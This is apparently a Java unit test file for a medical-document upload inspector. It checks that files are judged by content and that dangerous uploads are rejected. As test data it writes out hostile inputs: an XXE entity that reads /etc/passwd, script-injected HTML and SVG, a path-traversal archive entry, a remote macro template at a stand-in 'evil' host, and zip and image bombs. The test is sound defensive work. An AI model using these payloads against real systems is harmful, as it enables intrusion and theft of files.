package org.consilium.documents;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import org.consilium.kernel.Reason;
import org.consilium.kernel.Rejected;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What is taken, and what is refused, by content and never by name. */
class InspectorTest {

    private final Inspector inspector = new Inspector(false);

    @TempDir
    private Path folder;

    @Test
    void documentsAreWhatTheirContentSays() {
        assertThat(inspector.inspect(Samples.pdf(folder, "A letter."), "Письмо.PDF"))
                .isEqualTo(DocumentType.PDF);
        assertThat(inspector.inspect(Samples.docx(folder, "Text", Map.of()), "a.docx"))
                .isEqualTo(DocumentType.DOCX);
        assertThat(inspector.inspect(Samples.odt(folder, "Text"), "a.odt")).isEqualTo(DocumentType.ODT);
        assertThat(inspector.inspect(file("a.png", Samples.picture("png")), "a.png"))
                .isEqualTo(DocumentType.PNG);
        assertThat(inspector.inspect(file("a.jpg", Samples.picture("jpg")), "a.jpeg"))
                .isEqualTo(DocumentType.JPEG);
        assertThat(inspector.inspect(file("a.tif", Samples.picture("tif")), "a.tif"))
                .isEqualTo(DocumentType.TIFF);
        assertThat(inspector.inspect(text("Анализ крови: норма"), "a.txt")).isEqualTo(DocumentType.TEXT);
        assertThat(inspector.inspect(text("""
                <?xml version="1.0"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>"""), "a.xml")).isEqualTo(DocumentType.XML);
    }

    @Test
    void aNameThatSaysSomethingElseIsRefused() {
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, Samples.pdf(folder, "A letter."), "letter.docx");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, Samples.pdf(folder, "A letter."), "letter");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, text("words"), "letter.pdf");
    }

    @Test
    void programsAndOtherTypesAreRefusedUnderAnyName() {
        var program = new byte[512];
        program[0] = 'M';
        program[1] = 'Z';
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, file("a.pdf", program), "letter.pdf");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, text("\u007fELF\u0002\u0001\u0001\0\0\0"), "a.txt");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, text("<html><script>alert(1)</script></html>"), "a.txt");
        assertRefused(
                Reason.UNSUPPORTED_MEDIA_TYPE,
                text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>"),
                "a.xml");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, zip("a.zip", Map.of("a.txt", "x")), "a.docx");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, text("text and a\0NUL"), "a.txt");
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, file("empty.txt", new byte[0]), "empty.pdf");
    }

    @Test
    void aDicomFileIsAnImageWhateverItsPreambleSays() {
        var polyglot = Arrays.copyOf("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII), 400);
        System.arraycopy("DICM".getBytes(StandardCharsets.US_ASCII), 0, polyglot, 128, 4);
        assertRefused(Reason.UNSUPPORTED_MEDIA_TYPE, file("a.pdf", polyglot), "a.pdf");
    }

    @Test
    void encryptedPdfsAreRefusedUnlessThePolicyTakesThem() {
        var encrypted = Samples.encryptedPdf(folder);
        assertRefused(Reason.NOT_PROCESSABLE, encrypted, "a.pdf");
        assertThat(new Inspector(true).inspect(encrypted, "a.pdf")).isEqualTo(DocumentType.PDF);
    }

    @Test
    void pdfsThatRunScriptsAreRefused() {
        assertRefused(Reason.NOT_PROCESSABLE, Samples.scriptedPdf(folder), "a.pdf");
    }

    @Test
    void officeDocumentsWithMacrosProgramsOrTemplatesElsewhereAreRefused() {
        for (var more : Map.of(
                        "word/vbaProject.bin", "x",
                        "word/embeddings/oleObject1.bin", "x",
                        "word/activeX/activeX1.xml", "x",
                        "payload.EXE", "x",
                        "../../etc/passwd", "x",
                        "[Content_Types].xml", Samples.CONTENT_TYPES.formatted("document.macroEnabled.main+xml"),
                        "word/_rels/settings.xml.rels",
                                "<Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil/x.dotm\" TargetMode=\"External\"/>",
                        "META-INF/manifest.xml", "<manifest:encryption-data/>")
                .entrySet()) {
            assertRefused(
                    Reason.NOT_PROCESSABLE,
                    Samples.docx(folder, "Text", Map.of(more.getKey(), more.getValue())),
                    "a.docx");
        }
    }

    @Test
    void archivesThatExpandTooFarOrHoldTooMuchAreRefused() {
        assertRefused(
                Reason.NOT_PROCESSABLE,
                Samples.docx(folder, "Text", Map.of("word/media/bomb.xml", "0".repeat(40 << 20))),
                "a.docx");
        var many = new LinkedHashMap<String, String>();
        for (int i = 0; i <= OfficeArchive.ENTRIES_MAX; i++) {
            many.put("word/media/" + i + ".xml", "");
        }
        assertRefused(Reason.NOT_PROCESSABLE, Samples.docx(folder, "Text", many), "a.docx");
    }

    @Test
    void picturesThatAskForGigabytesAreRefused() {
        var png = Samples.picture("png");
        // Width and height of IHDR.
        Arrays.fill(png, 16, 24, (byte) 0x10);
        assertRefused(Reason.NOT_PROCESSABLE, file("a.png", png), "a.png");
        assertRefused(Reason.NOT_PROCESSABLE, file("b.jpg", Arrays.copyOf(Samples.picture("jpg"), 30)), "b.jpg");
    }

    @Test
    void xmlWithADocumentTypeDeclarationIsRefused() {
        assertRefused(
                Reason.NOT_PROCESSABLE,
                text("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
                "a.xml");
    }

    private void assertRefused(Reason reason, Path file, String name) {
        assertThatThrownBy(() -> inspector.inspect(file, name))
                .as(name)
                .isInstanceOfSatisfying(
                        Rejected.class,
                        rejected -> assertThat(rejected.reason()).isEqualTo(reason));
    }

    private Path text(String content) {
        return file("text", content.getBytes(StandardCharsets.UTF_8));
    }

    private Path zip(String name, Map<String, String> parts) {
        return Samples.zip(folder.resolve(name), parts);
    }

    private Path file(String name, byte[] content) {
        return Samples.file(folder, name, content);
    }
}
